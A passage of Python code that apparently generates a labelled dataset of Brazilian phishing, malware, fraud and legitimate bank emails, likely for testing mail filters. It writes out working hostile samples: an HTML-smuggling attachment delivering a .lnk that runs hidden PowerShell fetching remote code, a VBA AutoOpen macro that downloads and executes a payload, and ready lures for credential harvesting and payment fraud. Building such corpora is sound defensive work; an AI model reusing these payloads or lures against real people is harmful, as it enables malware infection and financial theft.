    tag = "comprovante-smuggle"
    lnk2 = files.lnk_shortcut("C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe",
                              "-w h -nop -c \"iex(irm https://comprovante-pix.org/c.txt)\"")
    inner_zip = files.zip_archive([("Comprovante_Pix_Itau.pdf.lnk", lnk2)])
    b64 = base64.b64encode(inner_zip).decode()
    chunks = "\n".join(f"'{b64[i:i+76]}'+" for i in range(0, len(b64), 76))
    smug = ("<!DOCTYPE html>\n<html><head><meta charset=\"utf-8\"><title>Comprovante Pix</title></head>\n"
            "<body style=\"font-family:Arial;text-align:center;padding-top:60px;\">\n"
            "<img src=\"https://comprovante-pix.org/itau.png\" width=\"120\"><h3>Carregando comprovante...</h3>\n"
            "<p>Se o download não iniciar automaticamente, <a id=\"l\" href=\"#\">clique aqui</a>.</p>\n<script>\nvar d=\n"
            f"{chunks}\n'';\n"
            "function b(s){var r=atob(s),a=new Uint8Array(r.length);for(var i=0;i<r.length;i++)a[i]=r.charCodeAt(i);return a;}\n"
            "var u=URL.createObjectURL(new Blob([b(d)],{type:'application/zip'}));var l=document.getElementById('l');\n"
            "l.href=u;l.download='Comprovante_Pix_Itau.zip';l.click();\n</script>\n</body></html>\n")
    paras = ["Boa tarde,", "", "Segue o comprovante do Pix referente ao pagamento da encomenda.", "",
             "Por favor confirme o recebimento.", "", "Obrigado", "Rafael"]
    plain = "\n".join(paras) + "\n"
    body = Multi("mixed", bnd(tag + "m", "gmail"), [alt(plain, gmail_html(paras), bnd(tag, "gmail")),
                                                     Leaf("text/html", smug.encode(), "base64", '; charset="US-ASCII"; name="Comprovante_Pix.html"',
                                                          'attachment; filename="Comprovante_Pix.html"',
                                                          [f"X-Attachment-Id: f_{lower(tag+'x', 9)}0", f"Content-ID: <f_{lower(tag+'x', 9)}0>"])])
    add(Mail(f"b{N}-phish-comprovante-pix-html-smuggling", "malware",
             "Short 'segue o comprovante do Pix' note from a free Gmail account to a bakery's finance mailbox, with an HTML attachment that smuggles a ZIP containing a .pdf.lnk PowerShell launcher.",
             LW, "locaweb", "gmail", "Rafael Oliveira", "rafael.oliveira.pgtos@gmail.com",
             "Comprovante Pix - pagamento encomenda", dt(2025, 7, 8, 14, 36, 50), body, policy="none"))

    # 44 Pedido de cotação with macro document from a compromised supplier on Microsoft 365
    tag = "cotacao-docm"
    vba = ("Attribute VB_Name = \"NewMacros\"\r\n"
           "Sub AutoOpen()\r\n    Atualizar\r\nEnd Sub\r\n"
           "Sub Document_Open()\r\n    Atualizar\r\nEnd Sub\r\n"
           "Private Sub Atualizar()\r\n"
           "    Dim u As String, c As String\r\n"
           "    u = \"https://ferragens-cotacoes.com/tabela/\" & \"atualiza.bin\"\r\n"
           "    c = \"powershell -nop -w hidden -c \"\"$p=$env:TEMP+'\\t.exe';iwr '\" & u & \"' -OutFile $p;saps $p\"\"\"\r\n"
           "    CreateObject(\"WScript.Shell\").Run c, 0\r\n"
           "End Sub\r\n")
    doc = files.docx(["PEDIDO DE COTACAO 0925/2025", "Ferragens Central SP Ltda",
                      "Conteudo protegido. Clique em 'Habilitar Edicao' e depois em 'Habilitar Conteudo' para visualizar a tabela de precos."],
                     "Cotacao 0925", "vendas", macro=vba)
    html = outlook_html(
        "<div>Bom dia Sr. Anderson,</div><div><br></div>"
        "<div>Conforme solicitado, segue a cotação atualizada dos itens (vergalhões CA-50, arame recozido e pregos 17x27) com os "
        "novos preços de setembro.</div><div><br></div>"
        "<div>Favor habilitar o conteúdo do arquivo para visualizar a tabela, pois ela está protegida.</div><div><br></div>"
        "<div>Fico no aguardo do pedido.</div><div><br></div>",
        "<div id=\"Signature\"><div style=\"font-family:Calibri;font-size:10pt;\">Márcia Tavares<br>Departamento Comercial<br>"
        "Ferragens Central SP Ltda<br>(11) 2291-4470</div></div>")
    plain = ("Bom dia Sr. Anderson,\n\nConforme solicitado, segue a cotação atualizada dos itens (vergalhões CA-50, arame recozido e "
             "pregos 17x27) com os novos preços de setembro.\n\nFavor habilitar o conteúdo do arquivo para visualizar a tabela, pois "
             "ela está protegida.\n\nFico no aguardo do pedido.\n\nMárcia Tavares\nDepartamento Comercial\nFerragens Central SP Ltda\n"
             "(11) 2291-4470\n")
    body = Multi("mixed", bnd(tag, "outlook"), [alt(plain, html, bnd(tag + "a", "outlook")),
                                                attachment("application/vnd.ms-word.document.macroEnabled.12",
                                                           "Cotacao_0925-2025.docm", doc)])
    add(Mail(f"b{N}-phish-cotacao-docm-fornecedor", "malware",
             "Pedido de cotação from a compromised hardware-supplier Microsoft 365 mailbox (SPF/DKIM/DMARC pass) carrying a macro-enabled Word file whose AutoOpen macro downloads and runs a payload.",
             MS, "m365", "m365", "Márcia Tavares - Ferragens Central", "marcia.tavares@ferragenscentralsp.com.br",
             "RE: Cotação vergalhões e arame - setembro", dt(2025, 9, 16, 8, 40, 12), body, policy="none",
             rx_host="construtoravaledosol.com.br", to="Anderson Lima <compras@construtoravaledosol.com.br>"))


def attacks_6():
    # 45 Genuine Google Drive share notification abused (doc holds the phishing link)
    tag = "gdrive-abuse"
    fid = alnum(tag + "f", 33)
    url = f"https://drive.google.com/file/d/{fid}/view?usp=sharing_eil&ts={hx(tag+'ts', 8)}"
    name = "Comprovante_Estorno_Itau_R$2.190,00.pdf"
    html = ("<!DOCTYPE html><html lang=\"pt-BR\"><head><meta charset=\"utf-8\"></head><body style=\"margin:0;padding:0;background:#fff;\">"
            "<table role=\"presentation\" width=\"100%\" style=\"max-width:520px;margin:auto;font-family:'Google Sans',Roboto,Arial,sans-serif;\">"
            "<tr><td style=\"padding:24px 0 8px;\"><img src=\"https://www.gstatic.com/images/branding/productlogos/drive_2020q4/v8/web-48dp/logo_drive_2020q4_color_2x_web_48dp.png\" width=\"40\" alt=\"Google Drive\"></td></tr>"
            "<tr><td style=\"font-size:22px;color:#202124;padding-bottom:12px;\">Central de Estornos Itaú compartilhou um arquivo</td></tr>"
            "<tr><td style=\"font-size:14px;color:#3c4043;padding-bottom:16px;\">"
            "<div style=\"border-left:3px solid #dadce0;padding-left:12px;\">Prezado cliente, segue o comprovante do estorno de R$ 2.190,00 "
            "referente à compra contestada. Para liberar o crédito, abra o documento e siga as instruções de validação em até 24h.</div></td></tr>"
            f"<tr><td style=\"padding-bottom:16px;\"><a href=\"{url}\" style=\"display:inline-block;border:1px solid #dadce0;border-radius:8px;padding:10px 14px;color:#3c4043;text-decoration:none;font-size:14px;\">"
            f"<img src=\"https://drive-thirdparty.googleusercontent.com/32/type/application/pdf\" width=\"16\" alt=\"\"> {name}</a></td></tr>"
            f"<tr><td><a href=\"{url}\" style=\"background:#0b57d0;color:#fff;border-radius:20px;padding:10px 24px;text-decoration:none;font-size:14px;\">Abrir</a></td></tr>"
            "<tr><td style=\"font-size:12px;color:#5f6368;padding-top:28px;\">Se você não quiser receber arquivos desta pessoa, "
            f"<a href=\"https://drive.google.com/drive/blockuser?blockerEmail={HOT1}&amp;blockeeEmail=estornos.central.itau@gmail.com&amp;usp=sharing_eib\">bloqueie o remetente</a> no Drive.</td></tr>"
            "<tr><td style=\"font-size:12px;color:#5f6368;padding-top:12px;\">Google LLC, 1600 Amphitheatre Parkway, Mountain View, CA 94043, USA<br>"
            "Você recebeu este e-mail porque estornos.central.itau@gmail.com compartilhou um arquivo com você pelo Google Drive.</td></tr>"
            "</table></body></html>\n")
    plain = (f"Central de Estornos Itaú compartilhou um arquivo\n\nPrezado cliente, segue o comprovante do estorno de R$ 2.190,00 referente à "
             f"compra contestada. Para liberar o crédito, abra o documento e siga as instruções de validação em até 24h.\n\n{name}\n{url}\n\n"
             "Google LLC, 1600 Amphitheatre Parkway, Mountain View, CA 94043, USA\nVocê recebeu este e-mail porque "
             "estornos.central.itau@gmail.com compartilhou um arquivo com você pelo Google Drive.\n")
    add(Mail(f"b{N}-phish-gdrive-compartilhamento-estorno", "phishing",
             "Genuine Google Drive share notification (google.com DKIM/DMARC pass) from a Gmail account named 'Central de Estornos Itaú': the shared PDF is a bank 'estorno' lure whose link leads to a kit.",
             HOT1, "outlook", "gmail", "Central de Estornos Itaú (via Google Drive)", "drive-shares-dm-noreply@google.com",
             f"Arquivo compartilhado com você: \"{name}\"", dt(2025, 10, 2, 18, 12, 33),
             alt(plain, html, bnd(tag, "gmail")), policy="reject",
             mailfrom=f"3{alnum(tag+'mf', 20)}@doclist.bounces.google.com", helo="mail-sor-f69.google.com", ip="209.85.220.69",
             dkim=[("google.com", "20230601", "pass")],
             msgid=f"<{alnum(tag+'mid', 22)}-{alnum(tag+'mid2', 10)}@docs-share.google.com>",
             reply_to='"Central de Estornos Itaú" <estornos.central.itau@gmail.com>'))

    # 46 D4Sign look-alike e-signature, Microsoft 365 credential harvest
    tag = "d4sign-fake"
    link = sg_click(tag)
    paras = ["Olá, Anderson Lima,", "<b>Paulo Henrique Siqueira</b> (Siqueira Engenharia) enviou um documento para sua assinatura:",
             "<b>Contrato_Prestacao_Servicos_Obra_Residencial_VilaNova.pdf</b><br>Prazo para assinatura: 3 dias",
             "Para visualizar e assinar, acesse com seu e-mail corporativo."]
    foot = ["D4Sign - Assinatura eletrônica e digital com validade jurídica (MP 2.200-2/2001)",
            "Este e-mail foi enviado automaticamente pela plataforma D4Sign."]
    html = esp_card(color="#1E88E5", logo="https://d4sign-documentos.com/img/d4sign-logo-branco.png", logo_alt="D4Sign",
                    preheader="Documento aguardando sua assinatura", title="Você tem um documento para assinar",
                    paras=paras, button=("Visualizar e assinar", link), footer=foot)
    add(Mail(f"b{N}-phish-d4sign-contrato-m365", "phishing",
             "Fake D4Sign 'documento para assinar' from a look-alike domain via SendGrid to a construction company, the button leading to a Microsoft 365 credential-harvest page.",
             MS, "m365", "sendgrid", "D4Sign", "notificacoes@d4sign-documentos.com",
             "Paulo Henrique Siqueira enviou um documento para você assinar", dt(2025, 11, 11, 9, 26, 14),
             alt(plain_of("Você tem um documento para assinar", paras, ("Visualizar e assinar", link), foot), html, bnd(tag, "sg")),
             policy="", rx_host="construtoravaledosol.com.br", to="Anderson Lima <compras@construtoravaledosol.com.br>"))

    # 47 BEC: supplier bank-detail change, reply-chain from a typosquatted domain on an attacker M365 tenant
    tag = "bec-fornecedor"
    plain = ("Boa tarde Anderson,\n\n"
             "Tudo bem? Conforme falei por telefone com o financeiro de vocês, nossa conta no Banco do Brasil está passando por "
             "uma auditoria interna e ficará bloqueada para recebimentos até o fim do mês.\n\n"
             "Por gentileza, os pagamentos das NFs 18231 e 18244 (total R$ 46.380,00) devem ser feitos via TED ou Pix na conta "
             "abaixo, que também está em nome do grupo:\n\n"
             "Banco: 077 - Banco Inter\nAgência: 0001\nConta: 31847729-4\nFavorecido: ALVORADA COMERCIO E LOGISTICA LTDA\n"
             "Chave Pix (CNPJ): 52.901.337/0001-08\n\n"
             "Os boletos enviados anteriormente devem ser desconsiderados. Peço a gentileza de me enviar o comprovante assim que "
             "efetuar, para baixa no sistema.\n\n"
             "Obrigada!\n\nJuliana Prado\nContas a Receber\nDistribuidora Alvorada de Materiais\n(11) 4417-2290\n\n"
             "________________________________\n"
             "De: Anderson Lima <compras@construtoravaledosol.com.br>\n"
             "Enviado: terça-feira, 4 de novembro de 2025 10:12\n"
             "Para: Juliana Prado <juliana.prado@distribuidoraalvorada.com.br>\n"
             "Assunto: RE: Boletos NF 18231 e 18244\n\n"
             "Juliana, bom dia.\n\nRecebi os boletos, vamos programar para o dia 14.\n\nAbs,\nAnderson\n\n"
             "________________________________\n"
             "De: Juliana Prado <juliana.prado@distribuidoraalvorada.com.br>\n"
             "Enviado: segunda-feira, 3 de novembro de 2025 16:40\n"
             "Para: Anderson Lima <compras@construtoravaledosol.com.br>\n"
             "Assunto: Boletos NF 18231 e 18244\n\n"
             "Anderson, boa tarde.\n\nSeguem os boletos das notas 18231 e 18244 com vencimento em 14/11.\n\nAtenciosamente,\nJuliana Prado\n")
    html = outlook_html("<p>" + "</p>\n<p>".join(x.replace("\n", "<br>") for x in plain.strip().split("\n\n")) + "</p>")
    add(Mail(f"b{N}-phish-bec-troca-conta-fornecedor", "phishing",
             "BEC reply-chain hijack: a typosquatted supplier domain (alvorrada vs alvorada) on an attacker Microsoft 365 tenant continues a real boleto thread and asks to pay R$ 46.380 to a new Banco Inter account; no links.",
             MS, "m365", "m365", "Juliana Prado", "juliana.prado@distribuidoraalvorrada.com.br",
             "RE: Boletos NF 18231 e 18244", dt(2025, 11, 5, 15, 2, 48), alt(plain, html, bnd(tag, "outlook")),
             policy="", rx_host="construtoravaledosol.com.br", to="Anderson Lima <compras@construtoravaledosol.com.br>",
             extra=[f"In-Reply-To: <{pick_box('bec-prev')}{upper('bec-prev', 16)}@{pick_box('bec-prev')}.BRAP284.PROD.OUTLOOK.COM>",
                    f"References: <{pick_box('bec-orig')}{upper('bec-orig', 16)}@{pick_box('bec-orig')}.BRAP284.PROD.OUTLOOK.COM>\n"
                    f" <{pick_box('bec-prev')}{upper('bec-prev', 16)}@{pick_box('bec-prev')}.BRAP284.PROD.OUTLOOK.COM>"]))

    # 48 CEO fraud by Pix from Gmail (iPhone)
    tag = "ceo-pix"
    plain = ("Sonia, bom dia\n\n"
             "Estou em reunião com o pessoal do banco e não consigo atender ligação agora.\n\n"
             "Preciso que você faça um Pix de R$ 18.750,00 hoje ainda para o fornecedor novo da farinha, fechei o contrato agora "
             "e eles só liberam a carga com o sinal pago.\n\n"
             "Chave Pix (CNPJ): 49.228.610/0001-73\nTrigoSul Alimentos\n\n"
             "Me manda o comprovante por aqui assim que fizer. Depois te explico direitinho.\n\n"
             "Obrigado\nRicardo\n\nEnviado do meu iPhone\n")
    add(Mail(f"b{N}-phish-ceo-pix-urgente", "phishing",
             "CEO fraud to a bakery's finance mailbox: the owner's name on a new Gmail address asks for an urgent R$ 18.750 Pix to a 'new supplier' while 'in a meeting'; plain text, no links.",
             LW, "locaweb", "gmail", "Ricardo Duque", "ricardo.duque.padaria@gmail.com",
             "Pix urgente", dt(2025, 4, 3, 9, 14, 2),
             Leaf("text/plain", plain.encode(), "quoted-printable", '; charset=utf-8'), policy="none",
             msgid=f"<{uuid(tag+'m').upper()}@gmail.com>", xmailer="iPhone Mail (22D82)",
             extra=["Content-Language: pt-BR"]))

    # 49 Locaweb webmail quota, PHPMailer from a hacked site, kit on another hacked site
    tag = "locaweb-cota"
    url = f"https://www.pousadamaresias.com.br/.well-known/lw/webmail/index.php?u={base64.b64encode(LW.encode()).decode()}"
    html = ("<div style=\"font-family:Verdana,Arial;font-size:13px;max-width:560px;border:1px solid #ddd;\">"
            "<div style=\"background:#E4002B;padding:12px;color:#fff;font-size:18px;\"><b>Locaweb</b> | Webmail</div>"
            "<div style=\"padding:18px;\"><p>Olá, <b>" + LW + "</b></p>"
            "<p>Sua caixa postal atingiu <b>98% da cota</b> (1,96 GB de 2 GB). Novas mensagens estão sendo <b>devolvidas ao remetente</b>.</p>"
            "<table style=\"width:100%;border:1px solid #ccc;height:12px;\"><tr><td style=\"width:98%;background:#E4002B;\"></td><td></td></tr></table>"
            "<p>Para liberar espaço adicional gratuito, valide sua conta:</p>"
            f"<p><a href=\"{url}\" style=\"background:#E4002B;color:#fff;padding:10px 18px;text-decoration:none;\">Liberar espaço agora</a></p>"
            "<p style=\"font-size:11px;color:#888;\">Locaweb Serviços de Internet S/A - Este é um aviso automático do sistema.</p></div></div>\n")
    m = Mail(f"b{N}-phish-locaweb-webmail-cota", "phishing",
             "Locaweb webmail 'caixa postal com 98% da cota, mensagens devolvidas' credential phish for a small-business mailbox, mailed by PHPMailer from one hacked site with the kit on another, the victim's address prefilled in base64.",
             LW, "locaweb", "phpmailer", "Locaweb Webmail", "noreply@hotelfazendaserrana.com.br",
             f"[Aviso] Caixa postal {LW} com 98% da cota", dt(2025, 1, 29, 1, 44, 27),
             Multi("alternative", bnd(tag, "php"), [text(html, "html", "quoted-printable")]), policy="",
             helo="br1070.hostgator.com.br", ip="162.241.203.90")
    m.site = "hotelfazendaserrana.com.br"
    m.cpuser = "hotelf33"
    add(m)

    # 50 BOL Mail account "verification" via Microsoft Forms from an onmicrosoft.com tenant
    tag = "bol-forms"
    url = f"https://forms.office.com/r/{alnum(tag+'f', 10)}"
    plain = ("Prezado(a) usuário(a) BOL Mail,\n\n"
             "Estamos atualizando nossos servidores de e-mail para a nova plataforma segura. Contas não verificadas até "
             "30/09/2025 serão DESATIVADAS e todas as mensagens e contatos serão perdidos.\n\n"
             "Para manter sua conta ativa, preencha o formulário de verificação abaixo com seu e-mail e senha atuais:\n\n"
             f"{url}\n\n"
             "Obrigado por usar o BOL Mail.\nEquipe de Suporte UOL/BOL\n")
    html = outlook_html("<p>" + "</p>\n<p>".join(
        (x.replace(url, f"<a href=\"{url}\">VERIFICAR MINHA CONTA</a>")).replace("\n", "<br>") for x in plain.strip().split("\n\n")) + "</p>")
    add(Mail(f"b{N}-phish-bol-mail-forms-desativacao", "phishing",
             "BOL Mail 'conta será desativada na migração de servidores' phish sent from an attacker onmicrosoft.com tenant, collecting the e-mail password through a Microsoft Forms questionnaire.",
             BOL1, "bol", "m365", "Suporte BOL Mail", "suporte@bolmailverificacao.onmicrosoft.com",
             "Sua conta BOL Mail será desativada - verifique até 30/09", dt(2025, 9, 26, 13, 57, 6),
             alt(plain, html, bnd(tag, "outlook")), policy="",
             dkim=[("bolmailverificacao.onmicrosoft.com", "selector1", "pass")]))


# ================================================================= LEGITIMATE


def sfmc_link(tag: str, dom: str) -> str:
    return f"https://click.{dom}/?qs={hx(tag+'qs', 96)}"


def legit_1():
    # L1 Itaú genuine new-device notice
    tag = "l-itau-disp"
    dom = "info.itau.com.br"
    paras = ["Olá, João Pedro.",
             "Um novo dispositivo foi habilitado para usar o <b>iToken no app Itaú</b> em 12/03/2025 às 19:42.",
             "<b>Aparelho:</b> iPhone 15<br><b>Local aproximado:</b> Belo Horizonte - MG",
             "Se foi você, pode desconsiderar esta mensagem.",
             "Se você não reconhece essa habilitação, acesse o app Itaú no seu aparelho de confiança em <b>Menu &gt; Segurança &gt; "
             "Dispositivos</b> ou ligue para a Central de Atendimento: 4004 4828 (capitais e regiões metropolitanas) ou 0800 970 4828 "
             "(demais localidades).",
             "O Itaú nunca envia links para atualização de iToken nem pede sua senha por e-mail, SMS ou telefone."]
    foot = ["Itaú Unibanco S.A. CNPJ 60.701.190/0001-04 - Praça Alfredo Egydio de Souza Aranha, 100 - São Paulo/SP",
            "SAC 0800 728 0728 | Ouvidoria 0800 570 0011",
            f"<a href=\"{sfmc_link(tag+'priv', dom)}\">Política de privacidade</a>"]
    html = esp_card(color="#EC7000", logo="https://image.info.itau.com.br/lib/fe3b15707564047b7c1d75/m/1/logo-itau.png",
                    logo_alt="Itaú", preheader="Novo dispositivo habilitado para o iToken", title="Novo dispositivo habilitado",
                    paras=paras, footer=foot, pixel=f"https://click.{dom}/open.aspx?ffcb10-{hx(tag+'op', 40)}")
    add(Mail(f"b{N}-legit-itau-novo-dispositivo", "bulk",
             "Genuine Itaú security notice (Salesforce Marketing Cloud, itau.com.br aligned DKIM) that a new device was enabled for iToken, with official phone numbers and no action link.",
             GM1, "gmail", "sfmc", "Itaú", f"comunicado@{dom}", "Novo dispositivo habilitado para o iToken",
             dt(2025, 3, 12, 19, 44, 30), alt(plain_of("Novo dispositivo habilitado", paras, None, foot), html, bnd(tag)),
             policy="reject"))

    # L2 Nubank fatura fechou
    tag = "l-nubank-fatura"
    link = sg_click(tag)
    paras = ["Oi, Eduardo!", "A fatura do seu cartão Nubank <b>fechou</b>.",
             "<b>Valor:</b> R$ 1.247,36<br><b>Vencimento:</b> 15/04/2025<br><b>Melhor dia de compra:</b> 08/04",
             "Você pode pagar com Pix, boleto ou débito em conta pelo app. Se preferir, antecipe parcelas com desconto.",
             "Lembrete: o Nubank nunca liga pedindo senha, código ou para você fazer transferências de \"segurança\"."]
    foot = ["Nu Pagamentos S.A. - Instituição de Pagamento - CNPJ 18.236.120/0001-58",
            "Rua Capote Valente, 39 - São Paulo, SP - 05409-000",
            "Central de atendimento: 0800 591 2117 | Ouvidoria: 0800 887 0463",
            f"<a href=\"{sg_click(tag+'pref')}\">Preferências de e-mail</a>"]
    html = esp_card(color="#820AD1", logo="https://nubank.com.br/images/nu-icon.png", logo_alt="Nubank",
                    preheader="Sua fatura de abril fechou", title="Sua fatura fechou", paras=paras,
                    button=("Ver fatura no app", link), footer=foot, font="Graphik, Helvetica, Arial, sans-serif")
    add(Mail(f"b{N}-legit-nubank-fatura-fechou", "bulk",
             "Genuine Nubank 'sua fatura fechou' notice from nubank.com.br through SendGrid with aligned DKIM and tracked app link.",
             HOT2, "outlook", "sendgrid", "Nubank", "todomundo@nubank.com.br", "Sua fatura de abril fechou",
             dt(2025, 4, 1, 6, 30, 12),
             alt(plain_of("Sua fatura fechou", paras, ("Ver fatura no app", link), foot), html, bnd(tag, "sg")),
             policy="reject", extra=[f"List-Unsubscribe: <{sg_click(tag+'pref')}>"]))

    # L3 Santander compra aprovada (looks like the callback scam)
    tag = "l-santander-compra"
    dom = "comunicacao.santander.com.br"
    paras = ["Olá, Carlos.", "Uma compra foi <b>aprovada</b> no seu cartão Santander SX Visa final 4471:",
             "<b>Estabelecimento:</b> DROGASIL 1457<br><b>Valor:</b> R$ 212,40<br><b>Data:</b> 17/06/2025 às 18:05",
             "Não reconhece esta compra? Bloqueie o cartão no app Santander em <b>Cartões &gt; Bloquear</b> ou ligue para a Central de "
             "Atendimento: 4004 3535 (capitais e regiões metropolitanas) ou 0800 702 3535 (demais localidades).",
             "O Santander não solicita senhas, códigos de token ou transferências por telefone."]
    foot = ["Banco Santander (Brasil) S.A. - CNPJ 90.400.888/0001-42", "SAC 0800 762 7777 | Ouvidoria 0800 726 0322",
            f"<a href=\"{sfmc_link(tag+'u', dom)}\">Gerenciar alertas</a>"]
    html = esp_card(color="#EC0000", logo="https://image.comunicacao.santander.com.br/lib/fe9112737c6d047a7d/m/1/santander-logo.png",
                    logo_alt="Santander", preheader="Compra aprovada de R$ 212,40", title="Compra aprovada", paras=paras, footer=foot)
    add(Mail(f"b{N}-legit-santander-compra-aprovada", "bulk",
             "Genuine Santander purchase-approved alert (R$ 212,40, card final 4471) via its marketing-cloud domain, pointing to the app and the bank's official phone numbers.",
             TERRA1, "terra", "sfmc", "Santander", f"alertas@{dom}", "Compra aprovada no seu cartão final 4471",
             dt(2025, 6, 17, 18, 5, 48), alt(plain_of("Compra aprovada", paras, None, foot), html, bnd(tag)), policy="reject"))

    # L4 Mercado Pago Pix recebido
    tag = "l-mp-pix"
    paras = ["Olá, Luciana!", "Você recebeu um Pix de <b>ANA CAROLINA M SOUZA</b>.",
             "<b>Valor:</b> R$ 350,00<br><b>Data:</b> 22/08/2025, 11:47<br><b>ID da transação:</b> E" + digits(tag + "e", 31),
             "O dinheiro já está disponível na sua conta."]
    link = f"https://www.mercadopago.com.br/activities/{digits(tag+'a', 11)}?utm_source=email&utm_medium=transactional"
    foot = ["Mercado Pago Instituição de Pagamento Ltda. - CNPJ 10.573.521/0001-91",
            "Av. das Nações Unidas, 3003 - Bonfim, Osasco/SP - CEP 06233-903"]
    html = esp_card(color="#009EE3", logo="https://http2.mlstatic.com/frontend-assets/mp-web-navigation/ui-navigation/6.6.92/mercadopago/logo__large.png",
                    logo_alt="Mercado Pago", preheader="Você recebeu R$ 350,00", title="Você recebeu um Pix", paras=paras,
                    button=("Ver detalhes", link), footer=foot, font="'Proxima Nova', -apple-system, Roboto, Arial, sans-serif")
    add(Mail(f"b{N}-legit-mercadopago-pix-recebido", "bulk",
             "Genuine Mercado Pago 'você recebeu um Pix' transactional mail from Mercado Libre's own mail servers with aligned DKIM and a link to mercadopago.com.br.",
             GM2, "gmail", "direct", "Mercado Pago", "info@mercadopago.com", "Você recebeu um Pix de R$ 350,00",
             dt(2025, 8, 22, 11, 47, 33), alt(plain_of("Você recebeu um Pix", paras, ("Ver detalhes", link), foot), html, bnd(tag)),
             ip="200.226.12.97", helo="mail-out-sp12.mercadolibre.com", policy="reject",
             dkim=[("mercadopago.com", "mp2021", "pass")], mailfrom=f"bounce-{hx(tag+'b', 16)}@mail.mercadopago.com",
             msgid=f"<{uuid(tag+'m')}@mail.mercadopago.com>"))

    # L5 Inter informe de rendimentos
    tag = "l-inter-informe"
    dom = "comunicacao.inter.co"
    link = sfmc_link(tag, dom)
    paras = ["Olá, Roberto!", "Seu <b>Informe de Rendimentos 2024</b> já está disponível no Super App Inter.",
             "Para acessar, entre no app e toque em <b>Meu Inter &gt; Documentos &gt; Informe de Rendimentos</b>. "
             "Você também pode consultar pelo Internet Banking.",
             "O prazo de entrega da Declaração do Imposto de Renda 2025 vai até 30 de maio."]
    foot = ["Banco Inter S.A. - CNPJ 00.416.968/0001-01 - Av. Barbacena, 1219 - Belo Horizonte/MG",
            "SAC 0800 940 9999 | Ouvidoria 0800 940 7772", f"<a href=\"{sfmc_link(tag+'u', dom)}\">Descadastrar</a>"]
    html = esp_card(color="#FF7A00", logo="https://image.comunicacao.inter.co/lib/fe3e11717164047e7d12/m/1/inter-logo.png",
                    logo_alt="Inter", preheader="Informe de Rendimentos 2024 disponível", title="Seu informe de rendimentos chegou",
                    paras=paras, button=("Saiba mais", link), footer=foot)
    add(Mail(f"b{N}-legit-inter-informe-rendimentos", "bulk",
             "Genuine Banco Inter notice that the 2024 income statement (informe de rendimentos) is available in the app, sent via Salesforce Marketing Cloud from its communication subdomain.",
             UOL1, "uol", "sfmc", "Inter", f"naoresponda@{dom}", "Seu Informe de Rendimentos 2024 está disponível",
             dt(2025, 2, 27, 10, 0, 5),
             alt(plain_of("Seu informe de rendimentos chegou", paras, ("Saiba mais", link), foot), html, bnd(tag)),
             policy="reject", extra=[f"List-Unsubscribe: <{sfmc_link(tag+'u', dom)}>"]))

    # L6 Livelo genuine points-expiring reminder
    tag = "l-livelo"
    dom = "news.livelo.com.br"
    link = sfmc_link(tag, dom)
    paras = ["Olá, Mariana!", "Você tem <b>2.130 pontos</b> com vencimento em <b>31/03/2025</b>.",
             "Que tal usar agora? Na Livelo você troca pontos por produtos, passagens, diárias de hotel e até por desconto na fatura "
             "de cartões parceiros.", "Consulte seu extrato completo no app ou no site."]
    foot = ["Livelo S.A. - CNPJ 12.888.241/0001-06 - Alameda Rio Negro, 585 - Barueri/SP",
            "Você está recebendo este e-mail porque é participante Livelo.",
            f"<a href=\"{sfmc_link(tag+'u', dom)}\">Descadastre-se</a>"]
    html = esp_card(color="#E2006A", logo="https://image.news.livelo.com.br/lib/fe8f13727261057d7d/m/1/logo-livelo.png",
                    logo_alt="Livelo", preheader="2.130 pontos vencem em 31/03", title="Seus pontos vencem em breve",
                    paras=paras, button=("Ver produtos", link), footer=foot)
    add(Mail(f"b{N}-legit-livelo-pontos-vencendo", "bulk",
             "Genuine Livelo reminder that 2.130 points expire on 31/03, from its Salesforce newsletter domain with unsubscribe header and tracked links to livelo.com.br.",
             HOT1, "outlook", "sfmc", "Livelo", f"livelo@{dom}", "Mariana, seus pontos vencem em 31/03",
             dt(2025, 3, 3, 10, 15, 0),
             alt(plain_of("Seus pontos vencem em breve", paras, ("Ver produtos", link), foot), html, bnd(tag)),
             policy="reject", extra=[f"List-Unsubscribe: <{sfmc_link(tag+'u', dom)}>", "List-Unsubscribe-Post: List-Unsubscribe=One-Click"]))

    # L7 Smiles promo via SES
    tag = "l-smiles"
    target = "https://www.smiles.com.br/compra-de-milhas?utm_source=email&utm_campaign=bonus_abril25"
    link = ses_click(tag, target)
    paras = ["Olá, Fernanda!", "Comprando milhas até domingo, você ganha <b>até 100% de bônus</b> sendo Clube Smiles.",
             "Aproveite para garantir aquela viagem de férias: passagens nacionais a partir de 5.000 milhas o trecho.",
             "Promoção válida de 10 a 13/04/2025. Consulte o regulamento no site."]
    foot = ["Smiles Fidelidade S.A. - Alameda Rio Negro, 585 - Barueri/SP",
            f"<a href=\"{ses_click(tag+'u', 'https://www.smiles.com.br/descadastro')}\">Não quero receber e-mails</a>"]
    html = esp_card(color="#FF5A00", logo="https://static.smiles.com.br/email/logo-smiles-branco.png", logo_alt="Smiles",
                    preheader="Até 100% de bônus na compra de milhas", title="Milhas com até 100% de bônus", paras=paras,
                    button=("Comprar milhas", link), footer=foot)
    add(Mail(f"b{N}-legit-smiles-bonus-milhas", "bulk",
             "Genuine Smiles marketing mail (compra de milhas com bônus) sent through Amazon SES from smiles.com.br with awstrack click tracking.",
             BOL1, "bol", "ses", "Smiles", "smiles@news.smiles.com.br", "Só até domingo: até 100% de bônus na compra de milhas",
             dt(2025, 4, 10, 8, 0, 41),
             alt(plain_of("Milhas com até 100% de bônus", paras, ("Comprar milhas", link), foot), html, bnd(tag)),
             policy="quarantine", mailfrom=f"0100019{hx(tag+'mf', 9)}-{uuid(tag+'mfu')}-000000@bounce.news.smiles.com.br",
             extra=[f"List-Unsubscribe: <{ses_click(tag+'u', 'https://www.smiles.com.br/descadastro')}>"]))

    # L8 gov.br account notice
    tag = "l-govbr"
    paras = ["Olá, JOAO PEDRO ALMEIDA,", "O endereço de e-mail da sua conta gov.br foi alterado em 05/05/2025 às 21:13.",
             "Se foi você quem fez a alteração, nenhuma ação é necessária.",
             "Se você não reconhece essa alteração, acesse <a href=\"https://contas.acesso.gov.br\">contas.acesso.gov.br</a> digitando o "
             "endereço no navegador, altere sua senha e revise os dispositivos conectados em <b>Segurança da conta</b>.",
             "Esta é uma mensagem automática. Por favor, não responda."]
    foot = ["gov.br - Governo Federal", "Ministério da Gestão e da Inovação em Serviços Públicos"]
    html = esp_card(color="#1351B4", logo="https://www.gov.br/++theme++padrao_govbr/img/govbr-logo-large.png", logo_alt="gov.br",
                    preheader="Alteração de e-mail na conta gov.br", title="Alteração de e-mail da conta gov.br",
